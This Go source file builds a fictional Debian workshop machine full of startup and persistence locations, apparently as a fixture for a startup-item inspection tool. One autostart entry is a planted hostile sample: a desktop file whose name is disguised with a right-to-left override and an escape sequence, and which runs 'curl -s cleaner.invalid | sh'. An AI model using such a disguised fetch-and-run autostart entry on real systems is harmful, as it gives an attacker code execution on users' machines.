package demo

import (
	_ "embed"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// dconfOfInes is a database in which an extension of GNOME Shell is turned on; dconf compile made it.
//
//go:embed workshop.dconf
var dconfOfInes string

// asFound is when the files of the made-up machines were last changed.
var asFound = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

// lastStart is when they were started last.
var lastStart = asFound.Add(-50 * time.Minute)

// piece is one file, link or folder of a made-up disk.
type piece struct {
	path  string
	text  string // of a file
	link  string // target, of a link
	mode  fs.FileMode
	owner int // user and group id, kept when the disk is built as root
}

func file(path, text string) piece { return piece{path: path, text: text, mode: 0o644} }
func program(path string) piece {
	return piece{path: path, text: "#!/bin/sh\nexec sleep 5\n", mode: 0o755}
}
func link(path, target string) piece   { return piece{path: path, link: target} }
func (p piece) of(owner int) piece     { p.owner = owner; return p }
func (p piece) as(m fs.FileMode) piece { p.mode = m; return p }

// The people who have accounts on the workshop box.
const (
	ines = 1000
	bram = 1001
)

// unit is a unit file in one line a section entry.
func unit(lines ...string) string { return strings.Join(lines, "\n") + "\n" }

func service(description, exec, wantedBy string) string {
	s := unit("[Unit]", "Description="+description, "", "[Service]", "ExecStart="+exec)
	if wantedBy != "" {
		s += unit("", "[Install]", "WantedBy="+wantedBy)
	}
	return s
}

func desktop(name, exec string, more ...string) string {
	return unit(append([]string{"[Desktop Entry]", "Type=Application", "Name=" + name, "Exec=" + exec}, more...)...)
}

// workshopBox is the Linux computer in the museum's workshop.
func workshopBox() []piece {
	const lib, etc = "/usr/lib/systemd/system/", "/etc/systemd/system/"
	pieces := []piece{
		file("/etc/machine-id", "5f0e7a1c93b24d6e8a17c2d9b6304e58\n").as(0o444),
		file("/etc/hostname", "workshop-box\n"),
		file("/etc/debian_version", "12.5\n"),
		file("/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"),
		file("/etc/passwd", unit("root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
			"ines:x:1000:1000:Ines Varga,archive:/home/ines:/bin/bash",
			"bram:x:1001:1001:Bram Ottosen,workshop:/home/bram:/bin/bash",
			"nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin")),

		// The operating system's own.
		file(lib+"graphical.target", unit("[Unit]", "Description=Graphical Interface", "Requires=multi-user.target",
			"Wants=display-manager.service")),
		file(lib+"multi-user.target", unit("[Unit]", "Description=Multi-User System", "Requires=basic.target")),
		file(lib+"basic.target", unit("[Unit]", "Description=Basic System", "Requires=sysinit.target",
			"Wants=sockets.target timers.target paths.target")),
		file(lib+"sysinit.target", unit("[Unit]", "Description=System Initialization")),
		file(lib+"sockets.target", unit("[Unit]", "Description=Sockets")),
		file(lib+"timers.target", unit("[Unit]", "Description=Timers")),
		file(lib+"paths.target", unit("[Unit]", "Description=Paths")),
		link(lib+"default.target", "graphical.target"),
		file(lib+"systemd-journald.service", service("Journal Service", "/usr/lib/systemd/systemd-journald", "")),
		link(lib+"sysinit.target.wants/systemd-journald.service", "../systemd-journald.service"),
		file(lib+"systemd-logind.service", service("User Login Management", "/usr/lib/systemd/systemd-logind", "")),
		link(lib+"multi-user.target.wants/systemd-logind.service", "../systemd-logind.service"),
		file(lib+"dbus.service", service("D-Bus System Message Bus", "/usr/bin/dbus-daemon --system", "")),
		link(lib+"multi-user.target.wants/dbus.service", "../dbus.service"),
		file(lib+"NetworkManager.service", service("Network Manager", "/usr/sbin/NetworkManager --no-daemon",
			"multi-user.target")),
		link(etc+"multi-user.target.wants/NetworkManager.service", lib+"NetworkManager.service"),
		file(lib+"lightdm.service", unit("[Unit]", "Description=Light Display Manager", "", "[Service]",
			"ExecStart=/usr/sbin/lightdm", "", "[Install]", "Alias=display-manager.service")),
		link(etc+"display-manager.service", lib+"lightdm.service"),
		file(lib+"cron.service", service("Regular background program processing daemon", "/usr/sbin/cron -f",
			"multi-user.target")),
		link(etc+"multi-user.target.wants/cron.service", lib+"cron.service"),
		file(lib+"getty@.service", service("Getty on %I", "-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM",
			"getty.target")),
		link(etc+"getty.target.wants/getty@tty1.service", lib+"getty@.service"),
		file(lib+"fstrim.timer", unit("[Unit]", "Description=Discard unused blocks once a week", "", "[Timer]",
			"OnCalendar=weekly", "", "[Install]", "WantedBy=timers.target")),
		file(lib+"fstrim.service", service("Discard unused blocks", "/sbin/fstrim --fstab --verbose", "")),
		link(etc+"timers.target.wants/fstrim.timer", lib+"fstrim.timer"),
		program("/usr/lib/systemd/systemd"), link("/sbin/init", "/usr/lib/systemd/systemd"),
		program("/usr/lib/systemd/systemd-journald"), program("/usr/lib/systemd/systemd-logind"),
		program("/usr/bin/dbus-daemon"),
		program("/usr/sbin/NetworkManager"), program("/usr/sbin/lightdm"), program("/usr/sbin/cron"),
		program("/sbin/agetty"), program("/sbin/fstrim"),
		program("/usr/bin/run-parts"), program("/usr/sbin/logrotate"), program("/usr/bin/nm-applet"),
		file("/usr/lib/systemd/system-preset/90-systemd.preset",
			"enable cron.service\nenable NetworkManager.service\ndisable *\n"),

		// Services of invented makers.
		file(etc+"tidewatch.service", service("Tidewatch tide gauge reader",
			"/opt/tidewatch/bin/tidewatchd --port 8099", "multi-user.target")),
		link(etc+"multi-user.target.wants/tidewatch.service", etc+"tidewatch.service"),
		program("/opt/tidewatch/bin/tidewatchd"),
		file(lib+"kelpline-updater.timer", unit("[Unit]", "Description=Kelpline looks for updates", "", "[Timer]",
			"OnBootSec=2min", "OnUnitActiveSec=20min", "", "[Install]", "WantedBy=timers.target")),
		file(lib+"kelpline-updater.service", service("Kelpline Updater", "/opt/kelpline/bin/updater --quiet", "")),
		link(etc+"timers.target.wants/kelpline-updater.timer", lib+"kelpline-updater.timer"),
		file(lib+"kelpline-report.service", service("Kelpline usage report", "/opt/kelpline/bin/report --daily", "")),
		link(lib+"multi-user.target.wants/kelpline-report.service", "../kelpline-report.service"),
		program("/opt/kelpline/bin/updater"), program("/opt/kelpline/bin/report"),
		file(etc+"brinecast.service", service("Brinecast screen caster", "/opt/brinecast/brinecastd",
			"multi-user.target")),
		link(etc+"multi-user.target.wants/brinecast.service", etc+"brinecast.service"),
		file(lib+"saltmarsh-licence.socket", unit("[Unit]", "Description=Saltmarsh licence service", "", "[Socket]",
			"ListenStream=27800", "", "[Install]", "WantedBy=sockets.target")),
		file(lib+"saltmarsh-licence.service", service("Saltmarsh licence service", "/opt/saltmarsh/licenced", "")),
		link(etc+"sockets.target.wants/saltmarsh-licence.socket", lib+"saltmarsh-licence.socket"),
		program("/opt/saltmarsh/licenced"),
		file(lib+"lampwick-spool.path", unit("[Unit]", "Description=Lampwick label spool", "", "[Path]",
			"PathExistsGlob=/var/spool/lampwick/*", "", "[Install]", "WantedBy=paths.target")),
		file(lib+"lampwick-spool.service", service("Lampwick label printing",
			"/usr/bin/env LABEL=brass /opt/lampwick/bin/spool", "")),
		link(etc+"paths.target.wants/lampwick-spool.path", lib+"lampwick-spool.path"),
		program("/opt/lampwick/bin/spool"),
		file(lib+"oldplotter.service", service("Plotter queue", "/opt/oldplotter/queue", "multi-user.target")),
		link(etc+"oldplotter.service", "/dev/null"),
		program("/opt/oldplotter/queue"),
		piece{path: "/etc/rc.local", text: "#!/bin/sh\n/opt/lampwick/bin/lamp-selftest\nexit 0\n", mode: 0o755},

		file("/etc/modules-load.d/brinecast.conf", unit("# the camera of the screen caster", "brinecast_cam")),

		// What starts with a session, for everyone and for one user.
		piece{path: "/etc/update-motd.d/60-tidewatch",
			text: "#!/bin/sh\n/opt/tidewatch/bin/tidewatchd --next-high-tide\n", mode: 0o755},
		program("/usr/sbin/sshd"),
		file("/home/bram/.ssh/rc", "/opt/tidechart/tidechart --greet\n").of(bram),
		file("/usr/lib/systemd/user/gullrock-welcome.service", service("Gullrock welcome page",
			"/opt/gullrock/welcome --full-screen", "default.target")),
		link("/etc/systemd/user/default.target.wants/gullrock-welcome.service",
			"/usr/lib/systemd/user/gullrock-welcome.service"),
		program("/opt/gullrock/welcome"),
		file("/etc/xdg/autostart/nm-applet.desktop", desktop("Network", "nm-applet")),
		file("/etc/xdg/autostart/kelpline-assistant.desktop", desktop("Kelpline Assistant",
			"/opt/kelpline/bin/assistant --tray", "NotShowIn=KDE;", "X-GNOME-Autostart-Delay=20")),
		program("/opt/kelpline/bin/assistant"),
		file("/usr/share/autostart/fogbell-notifier.desktop", desktop("Fogbell Notifier",
			"\"/opt/fogbell/Fogbell Notifier\" --minimised", "TryExec=/opt/fogbell/Fogbell Notifier")),
		program("/opt/fogbell/Fogbell Notifier"),
		file("/home/ines/.config/autostart/fogbell-sync.desktop", desktop("Fogbell Sync",
			"/opt/fogbell/sync --tray")).of(ines),
		program("/opt/fogbell/sync"),
		file("/home/ines/.config/autostart/lampwick-tray.desktop", desktop("Lampwick Label Tray",
			"/opt/lampwick/bin/tray", "Hidden=true")).of(ines),
		program("/opt/lampwick/bin/tray"),
		file("/home/ines/.config/systemd/user/fogbell-index.service", service("Fogbell search index",
			"/opt/fogbell/index --all", "default.target")).of(ines),
		link("/home/ines/.config/systemd/user/default.target.wants/fogbell-index.service",
			"/home/ines/.config/systemd/user/fogbell-index.service").of(ines),
		program("/opt/fogbell/index"),
		file("/home/bram/.config/autostart/tidechart.desktop",
			desktop("Tide Chart", "/opt/tidechart/tidechart --corner")).of(bram),
		file("/home/bram/.config/autostart/cleaner.desktop", desktop("Speed\u202egnp.exe Cleaner\x1b[31m",
			"sh -c \"curl -s cleaner.invalid | sh\"")).of(bram),

		// Scheduled.
		// What else starts things on a Linux machine that was used for many years.
		file("/etc/modprobe.d/brinecast.conf", "# made by the Brinecast installer\noptions brinecast_cam "+
			"mirrored=1\ninstall brinecast_mirror /opt/brinecast/warm-up && modprobe --ignore-install brinecast_mirror\n"),
		file("/usr/lib/binfmt.d/saltmarsh.conf",
			"# ledgers open like programs\n:saltbook:E::slt::/opt/saltmarsh/reader:\n"),
		piece{path: "/usr/lib/systemd/system-generators/tidewatch-generator",
			text: "#!/bin/sh\nexec /opt/tidewatch/bin/units \"$1\"\n", mode: 0o755},
		piece{path: "/usr/lib/systemd/system-generators/oldplotter-generator",
			text: "#!/bin/sh\nexec /opt/oldplotter/units \"$1\"\n", mode: 0o755},
		link("/etc/systemd/system-generators/oldplotter-generator", "/dev/null"),
		file("/etc/binfmt.d/README", "Files here come before those of the same name in /usr/lib/binfmt.d.\n"),
		piece{path: "/etc/systemd/user-environment-generators/50-gullrock",
			text: "#!/bin/sh\necho GULLROCK_HOME=/opt/gullrock\n", mode: 0o755},
		piece{path: "/var/lib/cloud/scripts/per-boot/10-first-light",
			text: "#!/bin/sh\necho light > /run/first-light\n", mode: 0o755},
		piece{path: "/etc/init.d/oldplotterd", text: "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: oldplotterd\n# " +
			"Default-Start: 2 3 4 5\n# Default-Stop: 0 1 6\n### END INIT INFO\n/opt/oldplotter/queue \"$1\"\n",
			mode: 0o755},
		link("/etc/rc2.d/S03oldplotterd", "../init.d/oldplotterd"), link("/etc/rc3.d/S03oldplotterd",
			"../init.d/oldplotterd"), link("/etc/rc6.d/K01oldplotterd", "../init.d/oldplotterd"),
		file("/etc/inittab", "# from the machine before this one\nid:2:initdefault:\nS0:23:respawn:/sbin/getty -L "+
			"ttyS0 9600 vt100\n"),
		piece{path: "/usr/lib/systemd/system-sleep/tidewatch",
			text: "#!/bin/sh\nexec /opt/tidewatch/bin/sleep \"$1\"\n", mode: 0o755},
		piece{path: "/etc/NetworkManager/dispatcher.d/50-tidewatch",
			text: "#!/bin/sh\nexec /opt/tidewatch/bin/online \"$2\"\n", mode: 0o755},
		piece{path: "/etc/network/if-up.d/oldplotter", text: "#!/bin/sh\nexec /opt/oldplotter/queue --again\n",
			mode: 0o755},
		file("/etc/dhcp/dhclient-exit-hooks.d/kelpline", "/opt/kelpline/bin/report --address\n"),
		file("/etc/acpi/events/lampwick-lid", "# dims the lamp with the "+
			"lid\nevent=button/lid.*\naction=/opt/lampwick/bin/dim %e\n"),
		file("/etc/incron.d/lampwick", "/srv/labels IN_CLOSE_WRITE /opt/lampwick/bin/print $@/$#\n"),
		file("/etc/inetd.conf", "# <service> <socket> <protocol> <wait> <user> <program> <arguments>\n#<off># tide "+
			"stream tcp nowait nobody /opt/tidewatch/bin/answer answer\nlabels stream tcp nowait bram "+
			"/usr/sbin/tcpd /opt/lampwick/bin/labeld --one\n"),
		file("/etc/ld.so.preload", "/opt/kelpline/lib/watch.so\n"),
		file("/etc/environment.d/90-kelpline.conf",
			"# for the assistant\nKELPLINE=1\nPYTHONSTARTUP=/opt/kelpline/start.py\n"),
		piece{path: "/home/ines/.config/environment.d/museum.conf",
			text: "EDITOR=nano\nGTK_MODULES=gullrock-large-print\n", mode: 0o644, owner: ines},
		file("/etc/X11/Xsession.d/95brinecast", "/opt/brinecast/tray &\n"),
		piece{path: "/home/bram/.xsessionrc", text: "xset s off\n", mode: 0o644, owner: bram},
		piece{path: "/home/ines/.config/plasma-workspace/env/large-print.sh", text: "export GDK_DPI_SCALE=1.4\n",
			mode: 0o644, owner: ines},
		piece{path: "/home/ines/.config/plasma-workspace/shutdown/backup.sh",
			text: "#!/bin/sh\n/home/ines/bin/backup-archive\n", mode: 0o755, owner: ines},
		piece{path: "/var/spool/cron/atjobs/a0001201c5f7c8",
			text: "#!/bin/sh\n# atrun uid=1001 gid=1001\numask 22\ncd /home/bram || {\n\t echo 'Execution " +
				"directory inaccessible' >&2\n\t exit 1\n}\n/opt/lampwick/bin/print --spring-labels\n", mode: 0o700,
			owner: bram},
		file("/etc/containers/systemd/tide-archive.container",
			"[Container]\nImage=registry.gullrock.example/tide-archive:4\n[Install]\nWantedBy=multi-user.target\n"),
		file("/etc/default/grub", "# for the menu of the boot "+
			"loader\nGRUB_TIMEOUT=3\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet splash "+
			"systemd.wants=tidewatch.service\"\nGRUB_CMDLINE_LINUX=\"\"\n"),
		piece{path: "/etc/initramfs-tools/scripts/init-bottom/brinecast",
			text: "#!/bin/sh\n[ \"$1\" = prereqs ] || /opt/brinecast/early\n", mode: 0o755},
		link("/etc/runlevels/default/oldplotterd", "/etc/init.d/oldplotterd"),
		piece{path: "/etc/sv/lampwick-queue/run", text: "#!/bin/sh\nexec /opt/lampwick/bin/spool --queue\n",
			mode: 0o755}, link("/etc/service/lampwick-queue", "/etc/sv/lampwick-queue"),
		file("/var/lib/docker/containers/4be2c07f9d10/hostconfig.json",
			`{"Binds":["/srv/tide:/data"],"RestartPolicy":{"Name":"unless-stopped","MaximumRetryCount":0}}`),
		file("/var/lib/docker/containers/4be2c07f9d10/config.v2.json",
			`{"ID":"4be2c07f9d10","Name":"/tide-database","Config":{"Image":"registry.gullrock.example/tide-database:11"},"HasBeenManuallyStopped":false}`),
		file("/etc/libvirt/qemu/till-1998.xml", "<domain type='kvm'>\n  <name>till-1998</name>\n</domain>\n"),
		link("/etc/libvirt/qemu/autostart/till-1998.xml", "/etc/libvirt/qemu/till-1998.xml"),
		file("/var/lib/lxc/web-copy/config", "# the museum's pages, to try things out\nlxc.uts.name = "+
			"web-copy\nlxc.start.auto = 1\n"),
		file("/etc/profile.d/kelpline.sh", "# made by the Kelpline installer\n/opt/kelpline/bin/report --shell &\n"),
		piece{path: "/home/bram/.bashrc", text: "# bram's\nalias ll='ls -l'\n/opt/tidechart/tidechart --line\n",
			mode: 0o644, owner: bram},
		file("/etc/lightdm/lightdm.conf",
			"[LightDM]\n\n[Seat:*]\n#greeter-session=\ndisplay-setup-script=/opt/brinecast/screen --mirror\n"),
		piece{path: "/home/ines/.local/share/kwin/scripts/gullrock-tiles/metadata.json",
			text: `{"KPlugin":{"Id":"gullrock-tiles","Name":"Gullrock Tiles"}}`, mode: 0o644, owner: ines},
		piece{path: "/home/ines/.config/kwinrc", text: "[Plugins]\ngullrock-tilesEnabled=true\n", mode: 0o644,
			owner: ines},
		piece{path: "/home/bram/.config/i3/config", text: "# i3 config file (v4)\nset $mod Mod4\nbindsym $mod+t " +
			"exec /opt/tidechart/tidechart\nexec --no-startup-id /opt/lampwick/bin/tray \\\n  --small\nmode " +
			"\"labels\" {\n  bindsym l exec /opt/lampwick/bin/print\n}\n", mode: 0o644, owner: bram},
		piece{path: "/home/bram/.config/openbox/autostart",
			text: "# what my session starts\nif [ -x /opt/gullrock/welcome ]; then\n  " +
				"/opt/gullrock/welcome\nfi\n/opt/saltmarsh/tray --quiet &\n", mode: 0o644, owner: bram},
		file("/usr/share/wayland-sessions/gullrock-kiosk.desktop", desktop("Gullrock kiosk",
			"/opt/gullrock/welcome --kiosk")),
		file("/etc/logrotate.d/tidewatch", "/var/log/tidewatch.log {\n  weekly\n  postrotate\n    "+
			"/opt/tidewatch/bin/reopen\n    echo done\n  endscript\n}\n"),
		file("/usr/share/dbus-1/system-services/example.gullrock.Tide.service",
			"[D-BUS Service]\nName=example.gullrock.Tide\nExec=/opt/tidewatch/bin/busd\nUser=root\n"),
		file("/usr/local/share/dbus-1/system-services/README",
			"What is here comes before /usr/share/dbus-1/system-services.\n"),
		piece{path: "/home/ines/.local/share/dbus-1/services/example.fogbell.Index.service",
			text: "[D-BUS Service]\nName=example.fogbell.Index\nExec=/opt/fogbell/index --bus\n", mode: 0o644,
			owner: ines},
		file("/etc/udev/rules.d/70-lampwick.rules", "# the label printer\nACTION==\"add\", SUBSYSTEM==\"usb\", "+
			"\\\n  ATTR{idVendor}==\"16c0\", RUN+=\"/opt/lampwick/bin/plugged $devnode\"\nKERNEL==\"lamp*\", "+
			"SYMLINK+=\"lamp\"\n"),
		file("/usr/lib/udev/rules.d/60-saltmarsh.rules",
			"SUBSYSTEM==\"tty\", PROGRAM=\"/opt/saltmarsh/till-id %k\", SYMLINK+=\"till\"\nSUBSYSTEM==\"tty\", "+
				"ENV{SYSTEMD_WANTS}+=\"saltmarsh-licence.service\"\n"),
		file("/etc/network/interfaces", "auto lo\niface lo inet loopback\n\niface eth1 inet manual\n  up "+
			"/opt/tidewatch/bin/route add\n  down /opt/tidewatch/bin/route del\n"),
		file("/etc/wireguard/harbour.conf", "[Interface]\nAddress = 10.7.0.2/24\nPostUp = /opt/tidewatch/bin/route "+
			"harbour\n[Peer]\nEndpoint = harbour.gullrock.example:51820\n").as(0o600),
		file("/etc/xinetd.d/labels", "# labels over the network\nservice labels\n{\n\tdisable\t\t= "+
			"no\n\tsocket_type\t= stream\n\tuser\t\t= bram\n\tserver\t\t= "+
			"/opt/lampwick/bin/labeld\n\tserver_args\t= --one\n}\nservice labels-old\n{\n\tserver\t\t= "+
			"/opt/lampwick/bin/labeld\n\tserver_args\t= --old\n}\n"),
		file("/etc/apt/apt.conf.d/90kelpline", "// made by the Kelpline installer\nDPkg::Post-Invoke "+
			"{\"/opt/kelpline/bin/packages || true\";};\n"),
		file("/etc/aliases", "postmaster: root\nlabels: \"|/opt/lampwick/bin/print --mail\"\n"),
		file("/etc/pam.d/common-session", "session required pam_unix.so\nsession [success=ok default=ignore] "+
			"pam_exec.so quiet /opt/brinecast/sign-in\n"),
		file("/usr/local/lib/python3.11/dist-packages/kelpline.pth", "kelpline\nimport kelpline_start\n"),
		piece{path: "/home/ines/.local/share/nautilus-python/extensions/fogbell.py", text: "# shows what is synced\n",
			mode: 0o644, owner: ines},
		file("/etc/sudo.conf", "# sudo's own are loaded without a line\nPlugin kelpline_audit "+
			"/opt/kelpline/lib/audit.so\n"),
		piece{path: "/home/ines/.local/share/gnome-shell/extensions/tide@gullrock.example/metadata.json",
			text: `{"uuid":"tide@gullrock.example","name":"Tide in the panel","shell-version":["43"]}`, mode: 0o644,
			owner: ines},
		piece{path: "/home/ines/.config/dconf/user", text: dconfOfInes, mode: 0o600, owner: ines},
		piece{path: "/home/ines/.mozilla/firefox/3f9k2m1q.default/extensions.json",
			text: `{"schemaVersion":35,"addons":[{"id":"clip@fogbell.example","version":"2.4","type":"extension","active":true,"location":"app-profile","defaultLocale":{"name":"Fogbell Clipper"}}]}`, mode: 0o600, owner: ines},
		file("/etc/chromium/native-messaging-hosts/example.kelpline.helper.json",
			`{"name":"example.kelpline.helper","path":"/opt/kelpline/bin/assistant","type":"stdio"}`),
		program("/usr/bin/runsvdir"), program("/usr/sbin/dockerd"), program("/usr/sbin/libvirtd"),
		program("/usr/bin/lxc-autostart"), program("/usr/bin/i3"), program("/usr/bin/openbox"),
		program("/usr/sbin/xinetd"), program("/usr/bin/apt-get"), program("/usr/bin/wg-quick"),
		program("/usr/sbin/sendmail"),
		program("/opt/brinecast/screen"), program("/opt/brinecast/sign-in"), program("/opt/tidewatch/bin/busd"),
		program("/opt/tidewatch/bin/route"), program("/opt/saltmarsh/tray"), program("/opt/kelpline/lib/audit.so"),
		program("/opt/lampwick/bin/plugged"), program("/opt/tidewatch/bin/reopen"),
		program("/opt/kelpline/bin/packages"), file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "a library\n"),
		program("/usr/lib/x86_64-linux-gnu/security/pam_exec.so"),
		file("/etc/anacrontab", "SHELL=/bin/sh\n7\t10\tgull.weekly\t/opt/gullrock/count-visitors --week\n"),
		program("/opt/brinecast/warm-up"), program("/opt/saltmarsh/reader"), program("/opt/lampwick/bin/dim"),
		program("/opt/lampwick/bin/print"), program("/opt/lampwick/bin/labeld"), program("/opt/kelpline/lib/watch.so"),
		file("/etc/crontab", unit("SHELL=/bin/sh", "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
			"",
			"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
			"25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }")),
		file("/etc/cron.d/kelpline", unit("# made by the Kelpline installer",
			"*/10 * * * * root /opt/kelpline/bin/updater --check > /dev/null 2>&1",
			"@reboot root /opt/kelpline/bin/report --boot")),
		file("/etc/cron.d/kelpline.dpkg-old", "*/5 * * * * root /opt/kelpline/bin/old\n"),
		piece{path: "/etc/cron.daily/logrotate", text: "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
			mode: 0o755},
		piece{path: "/etc/cron.daily/brinecast-report", text: "#!/bin/sh\n/opt/brinecast/report\n", mode: 0o755},
		piece{path: "/etc/cron.daily/notes.txt", text: "not a script\n", mode: 0o644},
		piece{path: "/etc/cron.weekly/tidewatch-archive", text: "#!/bin/sh\n/opt/tidewatch/bin/archive\n", mode: 0o644},
		piece{path: "/var/spool/cron/crontabs/ines", text: unit("# m h dom mon dow command",
			"30 18 * * 1-5 /home/ines/bin/backup-archive \"Gullrock 1887\"", "@reboot /opt/fogbell/sync --headless"),
			mode: 0o600, owner: ines},
		file("/home/ines/.local/share/gnome-shell/application_state",
			"<?xml version=\"1.0\"?>\n<application-state><context id=\"\"><application id=\"fogbell.desktop\" "+
				"score=\"12\" last-seen=\"1773215000\"/>"+
				"<application id=\"lampwick.desktop\" score=\"1\" "+
				"last-seen=\"1710000000\"/></context></application-state>\n").of(ines),
		file("/usr/share/applications/fogbell.desktop", desktop("Fogbell Sync", "/opt/fogbell/sync")),
		file("/usr/share/applications/lampwick.desktop", desktop("Lampwick Labels", "/opt/lampwick/bin/tray --window")),
		piece{path: "/home/ines/bin/backup-archive", text: "#!/bin/sh\n", mode: 0o755, owner: ines},
	}
	return withPackages(pieces, workshopPackages)
}

// build makes a disk of its pieces in a folder that does not exist yet.
func build(dir string, pieces []piece) error {
	if err := os.Mkdir(dir, 0o755); err != nil {
		return err
	}
	privileged := os.Geteuid() == 0
	owners := map[string]int{"/home/ines": ines, "/home/bram": bram, "/Users/mirela": mirela, "/Users/jonas": jonas,
		"/Users/annika": annika}
	made := map[string]bool{"/": true}
	var folders []string
	var parent func(path string) error
	parent = func(path string) error {
		if made[path] {
			return nil
		}
		made[path] = true
		if err := parent(filepath.ToSlash(filepath.Dir(path))); err != nil {
			return err
		}
		folders = append(folders, path)
		return os.Mkdir(filepath.Join(dir, path), 0o755)
	}
	for _, p := range pieces {
		at := filepath.Join(dir, filepath.FromSlash(p.path))
		if err := parent(filepath.ToSlash(filepath.Dir(p.path))); err != nil {
			return err
		}
		var err error
		if p.link != "" {
			err = os.Symlink(p.link, at)
		} else if err = os.WriteFile(at, []byte(p.text), 0o600); err == nil {
			err = os.Chmod(at, p.mode)
		}
		if err == nil && privileged && p.owner != 0 {
			err = os.Lchown(at, p.owner, p.owner)
		}
		if err == nil && p.link == "" {
			err = os.Chtimes(at, asFound, asFound)
		}
		if err != nil {
			return fmt.Errorf("cannot build the example: %w", err)
		}
	}
	for k := len(folders) - 1; k >= 0; k-- {
		at := filepath.Join(dir, filepath.FromSlash(folders[k]))
		for home, owner := range owners {
			if privileged && (folders[k] == home || strings.HasPrefix(folders[k], home+"/")) {
				if err := os.Chown(at, owner, owner); err != nil {
					return err
				}
			}
		}
		if err := os.Chtimes(at, asFound, asFound); err != nil {
			return err
		}
	}
	return nil
}
